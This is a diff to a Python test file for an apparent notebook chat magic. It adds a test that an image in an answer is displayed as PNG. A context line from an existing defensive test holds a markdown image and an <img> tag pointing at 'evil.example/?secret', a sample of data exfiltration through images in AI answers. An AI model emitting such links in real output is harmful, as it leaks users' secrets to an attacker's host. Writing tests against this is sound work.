@@ -298,6 +298,16 @@ def test_other_formats_have_their_mime_type(notebook, server, format, kind, star
     assert notebook.shown[kind].startswith(start)
 
 
+def test_an_image_of_an_answer_is_shown_with_f_image(notebook, server):
+    image = {"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0="}}
+    drawn = wire.Chunk(wire.event(wire.delta(content="", images=[image])))
+    server.script([wire.head(), drawn, *wire.closing()])
+
+    notebook.run("%%rustbot -f image\nDraw")
+
+    assert notebook.shown["image/png"] == "iVBORw0="
+
+
 def test_images_in_an_answer_do_not_load_before_a_click(notebook, server):
     server.script(wire.answer("![x](https://evil.example/?secret) <img src=https://evil.example>"))
 
